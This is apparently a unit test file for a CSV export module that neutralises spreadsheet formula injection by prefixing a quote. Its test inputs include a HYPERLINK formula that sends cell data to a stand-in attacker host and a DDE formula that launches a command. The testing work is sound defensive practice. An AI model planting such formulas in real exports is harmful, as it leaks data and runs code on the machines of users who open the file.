// Every CSV erg writes goes through csvField: text that a spreadsheet would run as a formula is
// made inert (OWASP's CSV injection), numbers stay numbers.
import { csvField, neutralizeFormula, renderCsv, resultsCsvRows } from '@erg/format';

describe('cells a spreadsheet would read as a formula', () => {
  it.each(['=HYPERLINK("https://evil.example/?"&A1)', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'])('prefixes %j with a quote', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it('leaves other text alone, a formula character inside it included', () => {
    for (const text of ['gemm', 'a=b', 'n=1;w=2', 'x-y', 'me@site', ' =1', '']) expect(neutralizeFormula(text)).toBe(text);
  });

  it('neutralises strings only: numbers, negative ones too, and booleans are written as they are', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField('-5')).toBe("'-5");
    expect(csvField(true)).toBe('true');
    expect(csvField('=1+1,2')).toBe(`"'=1+1,2"`);
    expect(csvField('@x "y"')).toBe(`"'@x ""y"""`);
  });

  it('applies to every row renderCsv writes', () => {
    expect(renderCsv([['name', 'owner', 'n'], ['=cmd|"/c calc"!A1', '@alice', -3]])).toBe(`name,owner,n\r\n"'=cmd|""/c calc""!A1",'@alice,-3\r\n`);
  });

  it("keeps a numeric parameter a number in the results CSV, and neutralises a text one", () => {
    const summary = { n: 1, mean: 1, ci95: [1, 1] as [number, number] };
    const entry = { key: 'k', parameters: { label: '=2+3', offset: -5, on: false }, n: 1, paretoOptimal: true, timeS: summary, energyJ: summary, avgPowerW: summary, edpJs: summary };
    const rows = resultsCsvRows({ configurations: [entry], best: { time: 'k', energy: 'k', edp: 'k' }, excluded: [] });
    expect(rows[0]!.slice(0, 4)).toEqual(['key', 'label', 'offset', 'on']);
    expect(rows[1]!.slice(0, 4)).toEqual(['k', '=2+3', -5, false]);
    expect(renderCsv(rows).split('\r\n')[1]!.startsWith("k,'=2+3,-5,false,")).toBe(true);
  });
});
